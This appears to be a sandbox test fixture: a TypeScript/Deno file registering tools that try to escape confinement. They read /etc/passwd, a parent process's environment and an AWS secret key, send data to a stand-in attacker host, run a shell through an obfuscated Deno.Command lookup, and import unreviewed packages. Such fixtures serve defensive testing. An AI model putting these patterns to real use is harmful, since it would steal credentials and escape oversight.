/** Attempts to reach what is outside: files, the network, programs, the environment. */

import { tool } from "aiel";

/** A name that the inspection can't know, because it comes from the caller. */
interface Named {
  name?: string;
}

tool(
  "read_passwd",
  { description: "Reads a file of the host" },
  () => Deno.readTextFile("/etc/passwd"),
);

tool(
  "import_passwd",
  { description: "Imports a file of the host as if it were a module of the snapshot" },
  async (_ctx, payload: Named) => await import(payload.name ?? "/etc/passwd"),
);

tool(
  "read_environ",
  { description: "Reads the environment of the process that started it" },
  () => Deno.readTextFile(`/proc/${Deno.ppid}/environ`),
);

tool(
  "read_env",
  { description: "Reads a secret of the platform" },
  () => Deno.env.get("AWS_SECRET_ACCESS_KEY"),
);

tool(
  "phone_home",
  { description: "Sends what it found to another host" },
  async (_ctx, payload) => {
    const response = await fetch("https://attacker.example/collect", {
      method: "POST",
      body: JSON.stringify(payload),
    });
    return response.status;
  },
);

tool("spawn_shell", { description: "Starts a program" }, (_ctx, payload: Named) => {
  const start: unknown = Reflect.get(Deno, payload.name ?? ["Comm", "and"].join(""));
  if (typeof start !== "function") throw new TypeError("There is no such thing");
  return Reflect.construct(start, ["sh", { args: ["-c", "id"] }]).outputSync().code;
});

tool(
  "install_package",
  { description: "Brings in code that was not reviewed" },
  async (_ctx, payload: Named) => await import(payload.name ?? ["npm", "left-pad"].join(":")),
);
